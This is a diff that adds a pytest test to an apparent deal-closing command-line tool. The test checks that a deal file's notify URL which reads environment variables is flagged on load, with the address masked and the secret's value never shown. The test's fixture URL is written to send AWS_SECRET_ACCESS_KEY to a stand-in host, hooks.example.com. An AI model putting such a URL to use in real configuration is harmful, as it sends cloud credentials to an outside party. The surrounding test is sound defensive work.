@@ -8,6 +8,8 @@ from __future__ import annotations
 from pathlib import Path
 from typing import Any
 
+import pytest
+
 from closing.domain.errors import ExitCode
 from tests.alert_receivers import http_receiver
 from tests.helpers import ROOT, Cli, board_json
@@ -165,3 +167,21 @@ def test_the_memo_lists_open_items_with_their_owners(cli: Cli, seed_path: Path) 
     assert "; owner company" in memo
     assert "Shares credited through DWAC: held until Purchase price wired is in" in memo
     assert "; owner transfer\\_agent" in memo
+
+
+def test_loading_a_deal_says_which_environment_variables_its_notify_urls_read(
+    cli: Cli, seed_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A deal file's notify URL may read ${VAR} from the alert sender's environment: loading it
+    names the address (masked) and each variable it reads, never the value, so that whoever
+    loads a deal file from elsewhere sees it before any alert goes out."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "leaked-value-7781")
+    url = "json://hooks.example.com/closing?key=${AWS_SECRET_ACCESS_KEY}"
+    seed_path.write_text(seed_path.read_text().replace("  notify: []", f'  notify: ["{url}"]', 1))
+    loaded = cli("init", str(seed_path), now=FRI.format("07:00"))
+    assert loaded.code == 0, loaded.err
+    assert (
+        "Note: alerts to json://hooks.example.com/… read ${AWS_SECRET_ACCESS_KEY} from the alert "
+        "sender's environment; check that each is a secret meant for that address."
+    ) in loaded.out
+    assert "leaked-value-7781" not in loaded.out + loaded.err
